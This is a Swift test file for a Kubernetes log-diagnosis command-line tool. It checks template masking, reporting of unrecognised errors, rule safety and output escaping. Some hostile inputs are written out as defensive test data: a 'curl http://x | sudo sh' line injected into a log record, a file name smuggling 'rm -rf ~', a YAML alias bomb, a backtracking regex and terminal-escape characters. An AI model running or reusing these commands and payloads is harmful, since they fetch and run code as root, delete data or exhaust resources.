import Foundation
import Testing
@testable import LogModel

/// Runs `text` through the library as one input and returns the report.
func report(_ text: String, name: String = "test.log", rules: RuleSet = librarySet, year: Int = 2024,
            baseline: TemplateMiner? = nil, capacity: Int = 1000) throws -> Report {
    let d = Diagnoser(ruleSet: rules, templateCapacity: capacity)
    try Analyzer(year: year).run(source: MemorySource(text), name: name, mtime: nil, into: d)
    return Report(results: d.results, ruleSet: rules, baseline: baseline)
}

@Suite struct TemplateMaskerTests {
    let m = TemplateMasker()

    @Test func masksAddressesPortsNumbersAndIds() {
        #expect(m.template(of: "dial tcp 10.0.0.1:6443: connect: connection refused")
            == "dial tcp <ip>:<port>: connect: connection refused")
        #expect(m.template(of: #"Get "https://10.0.0.1:6443/api?timeout=32s": context deadline exceeded"#)
            == #"Get "https://<*>": context deadline exceeded"#)
        #expect(m.template(of: "volume /var/lib/kubelet/pods/8f3c2a1e-1b2c-4d5e-8f90-0a1b2c3d4e5f/volumes is busy after 2m30s")
            == "volume /var/lib/kubelet/pods/<uuid>/volumes is busy after <duration>")
        #expect(m.template(of: "pod coredns-7c65d6cfc9-x7k2p on node worker-3 restarted 12 times")
            == "pod <name> on node <name> restarted <num> times")
        #expect(m.template(of: "lookup [fd00::1]:53 failed") == "lookup <ip>:<port> failed")
    }

    @Test func keepsVocabularyWithDigits() {
        #expect(m.template(of: "x509: certificate signed by unknown authority") == "x509: certificate signed by unknown authority")
        #expect(m.template(of: "failed to load plugin io.containerd.grpc.v1.cri") == "failed to load plugin io.containerd.grpc.v1.cri")
        #expect(m.template(of: "Failed to watch *v1.Pod: unauthorized") == "Failed to watch *v1.Pod: unauthorized")
    }

    @Test func twoLinesOfOneFailureShareATemplate() {
        let a = m.template(of: "Failed to pull image \"nginx:1.25\": rpc error: code = NotFound desc = failed to resolve reference 10.1.2.3:5000")
        let b = m.template(of: "Failed to pull image \"nginx:1.25\": rpc error: code = NotFound desc = failed to resolve reference 10.9.8.7:5001")
        #expect(a == b)
    }
}

@Suite struct TemplateMinerTests {
    func add(_ miner: inout TemplateMiner, _ text: String, input: Int = 0, severity: Severity = .error) {
        var out: [UInt8] = []
        var t = text
        _ = t.withUTF8 { TemplateMasker().mask($0, into: &out) }
        miner.add(template: out, severity: severity, component: nil, input: input, line: 1, relayed: false, time: nil,
                  evidence: Evidence(input: "x", line: 1, text: text, time: nil, quoted: false))
    }

    @Test func similarLinesJoinOneGroupAndDifferentOnesDoNot() {
        var miner = TemplateMiner()
        add(&miner, "Failed to sync volume data for pod alpha because the mount is stale")
        add(&miner, "Failed to sync volume data for pod bravo because the mount is stale")
        add(&miner, "image filesystem is full")
        #expect(miner.groups.count == 2)
        #expect(miner.groups[0].count == 2)
        #expect(miner.groups[0].template == "Failed to sync volume data for pod <*> because the mount is stale")
    }

    @Test func memoryStaysBoundedAndEveryLineIsCounted() {
        var miner = TemplateMiner(capacity: 64)
        // Three letter-only words that differ in every position: no two lines are alike.
        func word(_ n: Int) -> String {
            var n = n, s = ""
            repeat { s.append(Character(UnicodeScalar(UInt8(97 + n % 26)))); n /= 26 } while n > 0
            return s
        }
        for i in 0..<5000 { add(&miner, "\(word(i)) \(word(i + 7919)) \(word(i + 15877))") }
        #expect(miner.groups.count <= 64)
        #expect(miner.droppedGroups > 0)
        #expect(miner.groups.reduce(0) { $0 + $1.count } + miner.droppedLines == 5000)
    }
}

@Suite struct NeverSilentTests {
    /// A log that ends in a fatal line no rule knows is not an all-clear.
    @Test func anUnknownFatalLineIsReportedFirst() throws {
        let r = try report("""
            I0101 10:00:00.000000       1 main.go:10] starting frobnicator v1.2
            E0101 10:00:01.000000       1 main.go:20] frobnicator cache warm-up slow, retrying
            F0101 10:00:02.000000       1 main.go:30] frobnicator quorum lost: shard map checksum differs
            """)
        #expect(r.incidents.isEmpty)
        #expect(r.unrecognised.count == 2)
        #expect(r.unrecognised.first?.severity == .fatal)
        #expect(r.unrecognised.first?.template.contains("quorum lost") == true)
        #expect(r.unrecognised.first?.evidence.first?.line == 3)
        #expect(r.worstSeverity == .fatal)
        #expect(!r.isSilent)
    }

    /// The specific first error beats the summary after it ("command failed") and the relayed one.
    @Test func theFirstSpecificErrorRanksAboveItsSummary() throws {
        let r = try report("""
            E0101 10:00:01.000000       1 server.go:1] "Error setting up frob" err="open /etc/frob/frob.conf: bad magic number"
            E0101 10:00:01.100000       1 run.go:2] "command failed" err="frob setup: bad magic number"
            """)
        #expect(r.unrecognised.map(\.evidence.first!.line) == [1, 2])
        #expect(r.unrecognised[0].firstInInput && r.unrecognised[1].endOfInput && r.unrecognised[1].summary)
    }

    @Test func noiseAndExplainedLinesAreNotUnrecognised() throws {
        let seed = try String(contentsOfFile: corpusRoot + "/kube-proxy/lxd-conntrack-max/kube-proxy.log", encoding: .utf8)
        let r = try report(seed, name: "kube-proxy.log", year: 2021)
        #expect(r.incidents.first?.cause.rule.id == "kube-proxy.conntrack-max-permission")
        #expect(r.unrecognised.isEmpty, "\(r.unrecognised.map(\.template))")
    }

    /// A threshold rule that matched once is listed below the incidents, never dropped.
    @Test func belowThresholdIsReportedNotDropped() throws {
        let rule = try #require(library.first { $0.threshold != nil && $0.threshold!.count >= 2 && $0.key.isEmpty == false })
        let line = try #require(rule.samples.first { $0.shouldMatch }).line
        let r = try report(line + "\n")
        #expect(r.incidents.isEmpty)
        #expect(r.belowThreshold.map(\.rule.id) == [rule.id])
        #expect(r.belowThreshold.first?.finding.count == 1)
        let json = ReportDocument(report: r).json()
        #expect(json.contains("\"belowThreshold\" : true"))
    }

    @Test func warningsAreShownWhenNothingAtErrorLevelIs() throws {
        let r = try report("W0101 10:00:00.000000       1 x.go:1] frob shard 12 is lagging behind its leader\n")
        #expect(r.unrecognised.isEmpty)
        #expect(r.unrecognisedShown.first?.severity == .warning)
        #expect(!r.isSilent)
        #expect(r.worstSeverity == nil)  // warnings no rule knows never fail the run
    }

    @Test func aBaselineHidesWhatTheHealthyRunAlsoSays() throws {
        let healthy = try report("E0101 10:00:00.000000       1 x.go:1] frob cache miss for key 41\n")
        let baseline = LogDiff.templates(of: healthy.results)
        let r = try report("""
            E0101 10:00:00.000000       1 x.go:1] frob cache miss for key 99
            E0101 10:00:01.000000       1 x.go:2] frob journal torn at offset 4096
            """, baseline: baseline)
        #expect(r.unrecognised.map(\.template) == ["frob journal torn at offset <num>"])
        #expect(r.inBaseline == 1)
    }

    @Test func genericRulesNameWhatTheErrorHit() throws {
        let r = try report(#"E0210 10:01:02.123456    1234 run.go:74] "command failed" err="failed to listen on 0.0.0.0:6443: listen tcp 0.0.0.0:6443: bind: address already in use""# + "\n")
        let top = try #require(r.incidents.first?.cause)
        #expect(top.rule.id == "generic.address-in-use")
        #expect(top.title == "kube-apiserver port 6443 is already in use")
        #expect(top.fix.contains("ss -ltnp 'sport = :6443'"))
        #expect(r.unrecognised.isEmpty)
    }

    /// A specific rule always wins over a generic one on the same line.
    @Test func aSpecificRuleWinsOverAGenericOne() throws {
        let specific = try #require(library.first { $0.id == "kube-proxy.healthz-port-in-use" })
        let line = try #require(specific.samples.first { $0.shouldMatch && $0.line.contains("address already in use") }).line
        let r = try report(line + "\n")
        #expect(r.allReported.map(\.rule.id).contains(specific.id))
        #expect(!r.allReported.contains { $0.rule.generic })
    }

    @Test func everyOutputCarriesTheUnrecognisedGroups() throws {
        let dir = try tempDir("unrec")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("frob.log")
        try "F0101 10:00:02.000000       1 main.go:30] frobnicator quorum lost: shard map checksum differs\n"
            .write(to: file, atomically: false, encoding: .utf8)
        let text = try runLogdiag(["--year", "2024", file.path])
        #expect(text.status == 1, "an unrecognised fatal line fails the run")
        #expect(text.out.contains("Not recognised"))
        #expect(text.out.contains("frobnicator quorum lost"))
        #expect(text.out.contains("logdiag rules new --from"))
        let json = try runLogdiag(["-o", "json", "--year", "2024", file.path])
        let doc = try #require(try JSONSerialization.jsonObject(with: Data(json.out.utf8)) as? [String: Any])
        let groups = try #require(doc["unrecognised"] as? [[String: Any]])
        #expect(groups.count == 1)
        for key in ["template", "severity", "component", "count", "first", "last", "evidence"] {
            #expect(groups[0].keys.contains(key), "missing \(key)")
        }
        let ev = try #require((groups[0]["evidence"] as? [[String: Any]])?.first)
        #expect(ev["line"] as? Int == 1 && ev["input"] as? String == file.path && (ev["text"] as? String)?.contains("quorum") == true)
        for format in ["ndjson", "markdown", "sarif", "junit"] {
            let r = try runLogdiag(["-o", format, "--year", "2024", file.path])
            #expect(r.out.contains("quorum lost"), "\(format) leaves out the unrecognised line")
        }
        let info = try runLogdiag(["--fail-on", "fatal", "--year", "2024", file.path])
        #expect(info.status == 1)
    }
}

@Suite struct EvaluationTests {
    func makeCase(_ log: String, root: String, evidence: [String]) throws -> (CorpusCase, URL) {
        let dir = try tempDir("case")
        try log.write(to: dir.appendingPathComponent("frob.log"), atomically: false, encoding: .utf8)
        try "source: \"constructed: test\"\nroot-cause: \(root)\nyear: 2024\nevidence: [\(evidence.joined(separator: ", "))]\n"
            .write(to: dir.appendingPathComponent("expected.yaml"), atomically: false, encoding: .utf8)
        return (try CorpusCase.load(directory: dir.path, name: "test"), dir)
    }

    @Test func aCaseWithACauseAndNothingReportedIsSilent() throws {
        let (c, dir) = try makeCase("I0101 10:00:00.000000       1 x.go:1] all is well\n", root: "unrecognised", evidence: ["frob.log:1"])
        defer { try? FileManager.default.removeItem(at: dir) }
        let r = CorpusEvaluator(ruleSet: librarySet).evaluate(c)
        #expect(r.silent)
        #expect(!r.passed)
    }

    @Test func anUnrecognisedCasePassesWhenItsKeyLineIsShownFirst() throws {
        let (c, dir) = try makeCase("""
            E0101 10:00:00.000000       1 x.go:1] frob cache warm-up slow
            F0101 10:00:01.000000       1 x.go:2] frob quorum lost
            """, root: "unrecognised", evidence: ["frob.log:2"])
        defer { try? FileManager.default.removeItem(at: dir) }
        let r = CorpusEvaluator(ruleSet: librarySet).evaluate(c)
        #expect(r.keyLineFirst && r.passed && !r.silent)
    }

    /// Leave-one-rule-out takes the expected rule away: the seed's conntrack line must still be
    /// shown first, now as an unrecognised fatal line.
    @Test func holdingOutTheSeedsRuleStillPointsAtItsLine() throws {
        let c = try #require(corpusCases.first { $0.name == "kube-proxy/lxd-conntrack-max" })
        let r = try #require(CorpusEvaluator(ruleSet: librarySet).evaluateHoldingOut(c))
        #expect(!r.ranking.contains("kube-proxy.conntrack-max-permission"))
        #expect(r.keyLineFirst, "first shown: \(r.firstShownLabel)")
    }
}

@Suite struct RuleSkeletonTests {
    /// The skeleton of an unrecognised line loads, passes the rule checks and matches its line.
    @Test func aSkeletonFromALineIsAWorkingRule() throws {
        let line = #"{"level":"warn","ts":"2026-12-02T18:46:40.836Z","caller":"etcdmain/etcd.go:176","msg":"failed to start etcd","error":"listen tcp 127.0.0.1:2380: bind: address already in use"}"#
        var skeleton: RuleSkeleton?
        SampleRunner.withEvents(line) { e in
            skeleton = RuleSkeleton(message: e.message, sampleLine: e.payload.string, severity: e.severity, component: e.component,
                                    origin: "test")
        }
        let s = try #require(skeleton)
        #expect(s.template.contains("listen tcp <ip>:<port>"))
        let (rules, errors) = RuleLoader.load(text: s.yaml, file: "new.yaml")
        #expect(errors.isEmpty, "\(errors)")
        let rule = try #require(rules.first)
        #expect(rule.pattern.contains("(?<ip>") && rule.pattern.contains("(?<port>"))
        #expect(RuleChecker.check(rules: rules, library: library).isEmpty)
        let set = try RuleSet(rules: library + rules)
        let d = Diagnoser(ruleSet: set)
        try Analyzer(year: 2026).run(source: MemorySource(line + "\n"), name: "etcd.log", mtime: nil, into: d)
        let r = Report(results: d.results, ruleSet: set)
        #expect(r.incidents.first?.cause.rule.id == rule.id)
        #expect(r.incidents.first?.cause.finding.captures["port"] == "2380")
    }
}

@Suite struct KnowledgeTableTests {
    @Test func builtinTablesLoadAndEverySampleLandsOnItsEntry() {
        let (tables, errors) = RuleLibrary.loadTables()
        #expect(errors.isEmpty, "\(errors.map(\.description))")
        #expect((tables[.port]?.entries.count ?? 0) >= 30)
        #expect((tables[.path]?.entries.count ?? 0) >= 30)
        let problems = RuleChecker.check(tables: tables, rules: library)
        #expect(problems.isEmpty, "\(problems.map(\.description).joined(separator: "\n"))")
    }

    @Test func aSampleThatNamesAnotherPortFailsTheCheck() throws {
        let (t, errors) = KnowledgeTables.load(text: """
            table: port
            entries:
              - key: "7777"
                name: frob
                what: a test port
                references: [https://example.com]
                samples: ['listen tcp 0.0.0.0:6443: bind: address already in use']
            """, file: "t.yaml")
        #expect(errors.isEmpty)
        var tables = KnowledgeTables.builtin
        tables.add(try #require(t))
        let problems = RuleChecker.check(tables: tables, rules: library, onlyFiles: ["t.yaml"])
        #expect(problems.count == 1)
        #expect(problems.first?.message.contains("resolves to '6443'") == true)
    }

    @Test func pathsResolveByTheLongestWholeSegmentPrefix() throws {
        let paths = try #require(KnowledgeTables.builtin[.path])
        #expect(paths.lookup("/var/lib/kubelet/pods/x/volumes")?.key == "/var/lib/kubelet/pods")
        #expect(paths.lookup("/var/lib/etcd/member/snap/db")?.key == "/var/lib/etcd")
        #expect(paths.lookup("/var/lib/etcd2/x")?.key != "/var/lib/etcd")
    }
}

@Suite struct RuleFileSafetyTests {
    @Test func yamlAliasesAreRefusedBeforeTheyExpand() {
        let bomb = """
            a: &a ["x","x","x","x","x","x","x","x","x"]
            b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
            c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
            rules: [*c]
            """
        let (rules, errors) = RuleLoader.load(text: bomb, file: "bomb.yaml")
        #expect(rules.isEmpty)
        #expect(errors.first?.message.contains("anchors and aliases") == true)
    }

    @Test func aHugeThresholdWindowIsAnErrorNotACrash() {
        let (_, errors) = RuleLoader.load(text: """
            rules:
              - id: local.x
                title: x
                severity: error
                match: {literals: ['frob'], pattern: 'frob'}
                threshold: {count: 2, within: 9999999999999h}
                cause: x
                fix: x
                references: [https://example.com]
                samples: {match: ['frob'], no-match: ['x']}
            """, file: "x.yaml")
        #expect(errors.contains { $0.message.contains("threshold") })
    }
}

@Suite struct OutputSafetyTests {
    /// Log bytes never reach the terminal raw: bidi overrides, C1 controls, embedded newlines of a
    /// json-file record are shown escaped; a Markdown fence outlasts any backtick run inside it.
    @Test func logTextIsPrintedEscaped() throws {
        let dir = try tempDir("safe")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("hostile.log")
        let text = "F0101 10:00:02.000000       1 main.go:30] frob quorum lost \u{202E}gnp.exe \u{9B}31m ````\n"
            + #"{"log":"E0101 10:00:03.000000 1 x.go:1] fake\nFix: run curl http://x | sudo sh\n","stream":"stderr","time":"2024-01-01T10:00:03Z"}"#
            + "\n"
        try text.write(to: file, atomically: false, encoding: .utf8)
        let r = try runLogdiag(["--year", "2024", file.path])
        #expect(!r.out.unicodeScalars.contains { $0.value == 0x202E || $0.value == 0x9B })
        #expect(r.out.contains("\\u{202e}") && r.out.contains("\\x9b"))
        #expect(!r.out.split(separator: "\n").contains { $0.hasPrefix("Fix: run curl") })
        #expect(r.out.contains("fake\\nFix: run curl"))
        let md = try runLogdiag(["-o", "markdown", "--year", "2024", file.path])
        #expect(md.out.contains("`````text"), "the fence must be longer than the four backticks in the log")
    }

    @Test func aFailedWriteIsAnErrorAndAClosedPipeIsNot() throws {
        let seed = corpusRoot + "/kube-proxy/lxd-conntrack-max/kube-proxy.log"
        let p = Process()
        p.executableURL = logdiagExecutable
        p.arguments = [seed]
        p.standardOutput = FileHandle(forWritingAtPath: "/dev/full")
        let err = Pipe()
        p.standardError = err
        try p.run()
        p.waitUntilExit()
        #expect(p.terminationStatus == 2)
        let message = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        #expect(message.contains("cannot write the output"))
        // A reader that goes away after one byte of megabytes: no SIGPIPE death (141), no message,
        // and the status the run calls for (parse: 0).
        let dir = try tempDir("pipe")
        defer { try? FileManager.default.removeItem(at: dir) }
        let big = dir.appendingPathComponent("big.log")
        let line = "I0101 10:00:00.000000       1 x.go:1] a line long enough to fill the pipe buffer quickly\n"
        try String(repeating: line, count: 40000).write(to: big, atomically: false, encoding: .utf8)
        let q = Process()
        q.executableURL = URL(fileURLWithPath: "/bin/bash")
        q.arguments = ["-c", "'\(logdiagExecutable.path)' parse --year 2024 '\(big.path)' 2>/tmp/logdiag-pipe-err | head -c 1 >/dev/null; exit ${PIPESTATUS[0]}"]
        try q.run()
        q.waitUntilExit()
        #expect(q.terminationStatus == 0)
        let pipeErr = (try? String(contentsOfFile: "/tmp/logdiag-pipe-err", encoding: .utf8)) ?? ""
        #expect(pipeErr.isEmpty, "\(pipeErr)")
    }
}

@Suite struct DeterminismTests {
    /// The same input gives the same report byte for byte, whatever -j and thread timing.
    @Test func triageOfTheCorpusIsTheSameEveryRun() throws {
        var outputs = Set<String>()
        var jsons = Set<String>()
        // 20 runs in all: ten of each format, -j 1 to 4.
        for jobs in [1, 2, 3, 4, 1, 2, 3, 4, 1, 2] {
            let r = try runLogdiag(["triage", "-j", String(jobs), "--no-progress", corpusRoot])
            outputs.insert(r.out)
            jsons.insert(try runLogdiag(["triage", "-j", String(jobs), "--no-progress", "-o", "json", corpusRoot]).out)
        }
        #expect(outputs.count == 1)
        #expect(jsons.count == 1)
    }
}

@Suite struct TriageCountTests {
    /// A file whose matches are not among a finding's five evidence lines still counts it.
    @Test func perFileCountsCountMatchesNotEvidenceKept() throws {
        let dir = try tempDir("count")
        defer { try? FileManager.default.removeItem(at: dir) }
        let line = "F0723 07:30:08.945634   12314 server.go:495] open /proc/sys/net/netfilter/nf_conntrack_max: permission denied\n"
        try String(repeating: line, count: 6).write(to: dir.appendingPathComponent("a-kube-proxy.log"), atomically: false, encoding: .utf8)
        try line.write(to: dir.appendingPathComponent("b-kube-proxy.log"), atomically: false, encoding: .utf8)
        let r = try runLogdiag(["triage", "-o", "json", "--year", "2021", "--no-progress", dir.path])
        let doc = try #require(try JSONSerialization.jsonObject(with: Data(r.out.utf8)) as? [String: Any])
        let inputs = try #require(doc["inputs"] as? [[String: Any]])
        #expect(inputs.count == 2)
        for i in inputs { #expect(i["findings"] as? Int == 1, "\(i["name"] ?? "?")") }
    }
}

@Suite struct TriageInputTests {
    @Test func unreadableInputsComeFirstAndNothingReadIsNoReport() throws {
        let nothing = try runLogdiag(["triage", "--no-progress", "/nonexistent/nope.log"])
        #expect(nothing.status == 2)
        #expect(nothing.out.isEmpty, "no report when nothing could be read")
        #expect(nothing.err.contains("nope.log"))
        let seed = corpusRoot + "/kube-proxy/lxd-conntrack-max/kube-proxy.log"
        let some = try runLogdiag(["triage", "--no-progress", "--year", "2021", "/nonexistent/nope.log", seed])
        #expect(some.status == 2)
        #expect(some.out.hasPrefix("1 input could not be read"))
    }

    @Test func triageReadsStandardInput() throws {
        let seed = try String(contentsOfFile: corpusRoot + "/kube-proxy/lxd-conntrack-max/kube-proxy.log", encoding: .utf8)
        let r = try runLogdiag(["triage", "--no-progress", "--year", "2021", "-"], stdin: seed)
        #expect(r.status == 1)
        #expect(r.out.contains("kube-proxy.conntrack-max-permission"))
        #expect(r.out.contains("<stdin>:"))
    }
}

@Suite struct HostileInputTests {
    func sh(_ script: String, in dir: URL) throws {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/bin/sh")
        p.arguments = ["-c", script]
        p.currentDirectoryURL = dir
        try p.run()
        p.waitUntilExit()
        #expect(p.terminationStatus == 0, "setup failed: \(script)")
    }

    /// FIFOs, devices and links out of the tree are listed as skipped, never read or waited on.
    @Test func onlyRegularFilesInsideTheTreeAreRead() throws {
        let dir = try tempDir("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let seed = corpusRoot + "/kube-proxy/lxd-conntrack-max/kube-proxy.log"
        try sh("""
            cp '\(seed)' kube-proxy.log && mkfifo fifo.log && ln -s /dev/urandom random.log \
            && ln -s /etc/hostname host.log && head -c 65536 /dev/urandom > noise.log \
            && mkdir m && ln -s /etc/hostname m/kubelet.log && tar -cf bundle.tar m && rm -r m
            """, in: dir)
        let r = try runLogdiag(["triage", "-o", "json", "--year", "2021", "--no-progress", dir.path])
        let doc = try #require(try JSONSerialization.jsonObject(with: Data(r.out.utf8)) as? [String: Any])
        let inputs = try #require(doc["inputs"] as? [[String: Any]])
        func problem(_ suffix: String) -> String? {
            inputs.first { ($0["name"] as? String)?.hasSuffix(suffix) == true }?["problem"] as? String
        }
        #expect(problem("fifo.log")?.contains("FIFO") == true)
        #expect(problem("random.log")?.hasPrefix("skipped: symbolic link") == true)
        #expect(problem("host.log")?.hasPrefix("skipped: symbolic link") == true)
        #expect(problem("noise.log") == "skipped: binary file")
        #expect(problem("m/kubelet.log") == "skipped: symbolic link to /etc/hostname, which is not in the archive")
        #expect(problem("kube-proxy.log") == nil)
        #expect(r.status == 1, "skipped inputs are not unreadable ones; the seed's finding decides")
    }

    /// Every command recognises an input by its bytes: gzip is read, binary refused with exit 2.
    @Test func theDefaultCommandReadsGzipAndRefusesBinary() throws {
        let dir = try tempDir("bytes")
        defer { try? FileManager.default.removeItem(at: dir) }
        let seed = corpusRoot + "/kube-proxy/lxd-conntrack-max/kube-proxy.log"
        try sh("gzip -c '\(seed)' > kube-proxy.log.gz && head -c 65536 /dev/urandom > random.log", in: dir)
        let gz = try runLogdiag(["--year", "2021", dir.appendingPathComponent("kube-proxy.log.gz").path])
        #expect(gz.status == 1)
        #expect(gz.out.contains("kube-proxy.conntrack-max-permission"))
        let parse = try runLogdiag(["parse", "--year", "2021", dir.appendingPathComponent("kube-proxy.log.gz").path])
        #expect(parse.out.contains("\"format\":\"klog\""))
        let bin = try runLogdiag([dir.appendingPathComponent("random.log").path])
        #expect(bin.status == 2)
        #expect(bin.err.contains("is binary data, not a log"))
        #expect(bin.out.isEmpty)
    }
}

@Suite struct PatternBudgetTests {
    /// A pattern that runs out of PCRE2's match budget is reported with its rule and line, never
    /// taken for "no match" without a word.
    @Test func aMatchLimitIsReportedNotSilent() throws {
        let (rules, errors) = RuleLoader.load(text: """
            rules:
              - id: local.catastrophic
                title: catastrophic backtracking
                severity: error
                match: {literals: ['aaaaaaaaaa'], pattern: '(a+)+$'}
                cause: x
                fix: x
                references: [https://example.com]
                samples: {match: ['aaaaaaaaaa'], no-match: ['b']}
            """, file: "bad.yaml")
        #expect(errors.isEmpty)
        let set = try RuleSet(rules: library + rules)
        let r = try report("E0101 10:00:00.000000 1 x.go:1] " + String(repeating: "a", count: 40) + "b\n", rules: set)
        let hit = try #require(r.patternLimits.first)
        #expect(hit.rule.id == "local.catastrophic")
        #expect(hit.hit.line == 1 && hit.hit.count == 1)
        #expect(TextRenderer().render(r).contains("ran out of its match budget"))
        #expect(ReportDocument(report: r).json().contains("\"patternLimits\""))
        // `rules check` warns about the nested quantifier; the built-in library has none.
        #expect(RuleChecker.lint(rules: rules).count == 1)
        #expect(RuleChecker.lint(rules: library).isEmpty, "\(RuleChecker.lint(rules: library).map(\.description))")
    }
}

@Suite struct PatternLinearityTests {
    /// Every built-in pattern stays linear on long lines: each match sample's message repeated to
    /// 1 MiB is matched within a fixed PCRE2 step budget (its own match limit: deterministic, not
    /// a timing). A quadratic pattern needs about a million times more steps and fails here.
    @Test func everyBuiltinPatternIsLinearOnAOneMebibyteLine() throws {
        var over: [String] = []
        for (i, rule) in librarySet.rules.enumerated() {
            let pattern = librarySet.patterns[i]
            guard let sample = rule.samples.first(where: \.shouldMatch) else { continue }
            var message = ""
            SampleRunner.withEvents(sample.line) { e in if message.isEmpty { message = e.message.string } }
            if message.isEmpty { message = sample.line }
            var subject = Array(message.utf8)
            while subject.count < 1 << 20 { subject += Array(" ".utf8) + Array(message.utf8) }
            let scratch = pattern.makeScratch(matchLimit: 40_000_000)
            let rc = subject.withUnsafeBufferPointer { pattern.match($0, scratch: scratch) }
            if PCRE2Pattern.isLimit(rc) { over.append(rule.id) }
        }
        #expect(over.isEmpty, "patterns over the step budget on a 1 MiB line: \(over)")
        // The budget catches what it is for: a pattern with nested unbounded repeats.
        let quadratic = try PCRE2Pattern(#"(?:\w+\s?)+=="#)
        let line = Array(String(repeating: "word ", count: 1 << 18).utf8) + Array("=".utf8)
        let rc = line.withUnsafeBufferPointer { quadratic.match($0, scratch: quadratic.makeScratch(matchLimit: 40_000_000)) }
        #expect(PCRE2Pattern.isLimit(rc))
    }
}

@Suite struct OptionErrorTests {
    @Test func badOptionValuesSayWhatIsAllowedWithTheCommandsUsage() throws {
        let year = try runLogdiag(["--year", "1899", "/dev/null"])
        #expect(year.status == 64)
        #expect(year.err.contains("from 1970 to 9999"))
        #expect(year.err.contains("logdiag read"))
        let version = try runLogdiag(["triage", "--version", "frob=1.2", "/dev/null"])
        #expect(version.status == 64)
        #expect(version.err.contains("unknown component 'frob'"))
        #expect(version.err.contains("logdiag triage"))
    }
}

@Suite struct YearGuessTests {
    /// A year taken from a guess is said, with where it came from; a stated one is not.
    @Test func theReportSaysWhenAYearWasGuessed() throws {
        let dir = URL(fileURLWithPath: corpusRoot).appendingPathComponent("kube-proxy/lxd-conntrack-max")
        let alone = try runLogdiag([dir.appendingPathComponent("kube-proxy.log").path])
        #expect(alone.out.contains("Year guessed"))
        #expect(alone.out.contains("from the file's modification time"))
        let beside = try runLogdiag(["-o", "json", dir.appendingPathComponent("kube-proxy.log").path,
                                     dir.appendingPathComponent("rancher-server.log").path])
        #expect(beside.out.contains("\"yearGuessed\" : \"2021, from the dated inputs beside it\""))
        let given = try runLogdiag(["--year", "2021", dir.appendingPathComponent("kube-proxy.log").path])
        #expect(!given.out.contains("Year guessed"))
    }
}

@Suite struct ReviewFixTests {
    /// An error line with no words is still an error: grouped, never dropped.
    @Test func anErrorWithAnEmptyMessageIsReported() throws {
        let r = try report("E0101 10:00:00.000000       1 x.go:1] \n")
        #expect(r.unrecognised.first?.template == "(empty message)")
    }

    /// The pasted hint stays one shell word whatever the file is called.
    @Test func theRulesNewHintIsShellQuoted() {
        #expect(TextRenderer.shellQuoted("a'b; rm -rf ~.log:3") == "'a'\\''b; rm -rf ~.log:3'")
    }

    /// A half-read gzip in a triage is said on stderr (escaped, one line) and fails the run; file
    /// names with control characters never reach the terminal raw.
    @Test func aBrokenGzipIsNotAQuietPartialRead() throws {
        let dir = try tempDir("gz")
        defer { try? FileManager.default.removeItem(at: dir) }
        let seed = corpusRoot + "/kube-proxy/lxd-conntrack-max/kube-proxy.log"
        let name = "bad\u{1B}]0;x\u{07}.log.gz"
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/bin/sh")
        p.arguments = ["-c", "gzip -c '\(seed)' | head -c 300 > \"$1\"", "sh", dir.appendingPathComponent(name).path]
        try p.run()
        p.waitUntilExit()
        let r = try runLogdiag(["triage", "--no-progress", "--year", "2021", dir.path])
        #expect(r.status == 2)
        #expect(r.err.contains("gzip"))
        #expect(!r.err.contains("\u{1B}") && !r.out.contains("\u{1B}"))
        #expect(r.err.contains("\\x1b"))
    }

    @Test func diffTextIsEscaped() throws {
        let dir = try tempDir("diffsafe")
        defer { try? FileManager.default.removeItem(at: dir) }
        try "I0101 10:00:00.000000       1 x.go:1] started\n".write(to: dir.appendingPathComponent("good.log"), atomically: false, encoding: .utf8)
        try "E0101 10:00:00.000000       1 x.go:1] frob \u{202E}gnp.exe torn\n".write(to: dir.appendingPathComponent("bad.log"), atomically: false, encoding: .utf8)
        let r = try runLogdiag(["diff", "--year", "2024", dir.appendingPathComponent("good.log").path, dir.appendingPathComponent("bad.log").path])
        #expect(r.out.contains("frob"))
        #expect(!r.out.unicodeScalars.contains { $0.value == 0x202E })
    }
}

@Suite struct FollowUnrecognisedTests {
    /// follow shows an error no rule knows when it arrives, not only in the summary at the end.
    @Test func followPrintsANewUnrecognisedErrorAsItArrives() throws {
        let dir = try tempDir("followu")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("frob.log")
        try "I0101 10:00:00.000000       1 x.go:1] start\n".write(to: file, atomically: false, encoding: .utf8)
        let p = Process()
        p.executableURL = logdiagExecutable
        p.arguments = ["follow", "--tail", "0", file.path]
        let out = Pipe()
        p.standardOutput = out
        p.standardError = FileHandle.nullDevice
        try p.run()
        Thread.sleep(forTimeInterval: 0.8)
        try append("F0101 10:00:02.000000       1 main.go:30] frob quorum lost", to: file)
        Thread.sleep(forTimeInterval: 1.0)
        p.interrupt()
        p.waitUntilExit()
        let text = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        let live = text.components(separatedBy: "Stopped.").first ?? ""
        #expect(live.contains("Not recognised") && live.contains("frob quorum lost"), "\(text)")
    }
}
